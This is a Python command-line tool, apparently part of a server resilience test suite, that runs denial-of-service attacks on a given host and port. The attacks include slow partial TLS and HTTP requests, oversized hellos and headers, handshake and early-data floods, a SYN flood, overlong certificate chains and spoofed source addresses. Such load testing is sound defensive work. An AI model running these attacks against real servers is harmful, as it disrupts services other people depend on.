"""One attack, from --to HOST:PORT. Prints {"ready": …} when everybody is there, and what came of it at its end: after
--seconds, when a line comes on standard input, or when everybody has had their turn."""
import argparse
import json
import pathlib
import select
import ssl
import sys
import time

from . import messages
from .crowd import Crowd, Manner
from .floods import FLOODS, Flood

_SOME = 12  # bytes of a header or hello that are not enough


def _handshake(**flags):
    return Manner(messages.made_hello(**flags))


def manners():
    whole = messages.library_hello()
    half = whole[:len(whole) // 2]
    return {
        "silent": Manner(),
        "half-header": Manner(messages.oversized_header()[:_SOME]),
        "half-request": Manner(messages.SSL_REQUEST[:4]),
        "half-hello": Manner(half),
        "requested": Manner(messages.SSL_REQUEST),
        "requested-half-hello": Manner(messages.SSL_REQUEST, answer=half),
        "byte-by-byte": Manner(whole, drip_s=0.1),
        "half-handshake": Manner(whole),
        "half-handshake-12": _handshake(),
        "half-ticket": _handshake(ticket=bytes(4000)),
        "half-handshake-unread": Manner(whole, reads=False, receive_buffer=2304),
        "handshake-flood": Manner(whole, answer=b"\x15\x03\x03\0\x02\x02\x28", leaves="reset"),
        "ticket-flood": Manner(messages.made_hello(ticket=bytes(4000)), answer=b"\x15\x03\x03\0\x02\x02\x28", leaves="reset"),
        "compression": Manner(messages.made_hello(compression=b"\x01\0"), leaves="fin", answer=b"\x15\x03\x03\0\x02\x02\x28"),
        "early-data": Manner(messages.made_hello(early_data=True) + b"\x17\x03\x03\x40\0" + bytes(16384)),
        "oversized-hello": Manner(messages.oversized_hello()),
        "oversized-name": Manner(messages.oversized_name()),
        "tiny-hello-records": Manner(messages.records(whole[5:], 1)),
        "oversized-header": Manner(messages.oversized_header()),
        "endless-line": Manner(messages.endless_line()),
        "oversized-start": Manner(messages.oversized_start()),
        "garbage": Manner(bytes(range(256)) * 64),
        "connect-close": Manner(leaves="fin"),
        "connect-reset": Manner(leaves="reset"),
        "say-reset": Manner(b"x" * 64, answer=b"x", leaves="reset"),
        "never-read": Manner(reads=False, receive_buffer=2304),
    }


class _SYNs:
    def __init__(self, target):
        from .packets import SYNFlood
        self._flood = SYNFlood(target)
        self.turn, self.is_over, self.held = self._flood.turn, False, 0

    def leave(self):
        pass

    @property
    def report(self):
        return {"begun": self._flood.sent}


class _Sessions:
    """The floods inside sessions, which run on threads."""

    def __init__(self, flood, once):
        self._flood, self._once, self._has_started = flood, once, False
        self.held = flood.begun

    def turn(self, seconds):
        has_started, self._has_started = self._has_started, True
        if self._once:
            return self._flood.once()
        if not has_started:
            self._flood.start()
        time.sleep(seconds)

    @property
    def is_over(self):
        return self._once and self._has_started

    def leave(self):
        if not self._once:
            self._flood.stop()

    @property
    def report(self):
        return {"begun": self._flood.begun, "ended": self._flood.ended}


class _Certificates:
    """Handshakes with a chain of certificates that is longer than anybody's."""

    def __init__(self, target, chain):
        import socket
        self._target, self._socket = target, socket
        self._context = ssl.create_default_context()
        self._context.check_hostname, self._context.verify_mode = False, ssl.CERT_NONE
        self._context.load_cert_chain(chain / "chain.crt", chain / "client.key")
        self.report, self.is_over, self.held = {"begun": 0, "ended": {}}, False, 0

    def turn(self, _):
        self.report["begun"] += 1
        how = "served"
        try:
            with self._socket.create_connection(self._target, timeout=10) as plain:
                with self._context.wrap_socket(plain, server_hostname=messages.NAME) as tls:
                    tls.sendall(b"x")
                    how = "served" if tls.recv(1) else "ended"
        except ssl.SSLError as error:
            how = error.reason or "TLS"
        except OSError:
            how = "reset"
        self.report["ended"][how] = self.report["ended"].get(how, 0) + 1

    def leave(self):
        pass


def make(options):
    host, _, port = options.to.rpartition(":")
    target = host, int(port)
    if options.attack == "syn-flood":
        return _SYNs(target)
    if options.attack == "long-chain":
        return _Certificates(target, options.certificates)
    if options.attack in FLOODS:
        return _Sessions(Flood(options.attack, target, options.at_once, options.records), options.once)
    sources = [f"{options.sources}{index >> 8}.{index & 255}" for index in range(256, 256 + options.source_count)] \
        if options.sources else ()
    return Crowd(target, manners()[options.attack], options.at_once, options.in_all, options.rate, sources)


def _parse():
    parser = argparse.ArgumentParser(prog="attacker", description=__doc__)
    parser.add_argument("attack", choices=[*manners(), *FLOODS, "syn-flood", "long-chain"])
    parser.add_argument("--to", required=True)
    parser.add_argument("--at-once", type=int, default=1)
    parser.add_argument("--in-all", type=int, default=0)
    parser.add_argument("--rate", type=float, default=0)
    parser.add_argument("--records", type=int, default=20_000, help="of a flood inside a session")
    parser.add_argument("--once", action="store_true", help="a flood inside sessions: each session once")
    parser.add_argument("--sources", help="the first half of the addresses to come from, as 127.7.")
    parser.add_argument("--source-count", type=int, default=1000)
    parser.add_argument("--certificates", type=pathlib.Path)
    parser.add_argument("--seconds", type=float, default=0)
    return parser.parse_args()


def main():
    options = _parse()
    attack, start, said = make(options), time.monotonic(), False
    while not attack.is_over:
        attack.turn(0.02)
        if not said and (attack.held >= options.at_once or time.monotonic() > start + 3):
            print(json.dumps({"ready": attack.held}), flush=True)
            said = True
        if options.seconds and time.monotonic() > start + options.seconds:
            break
        if said and not options.seconds and not options.in_all and select.select([sys.stdin], [], [], 0)[0]:
            break
    attack.leave()
    if not said:
        print(json.dumps({"ready": attack.held}), flush=True)
    report = attack.report
    print(json.dumps(report if isinstance(report, dict) else report.as_dict()), flush=True)


main()
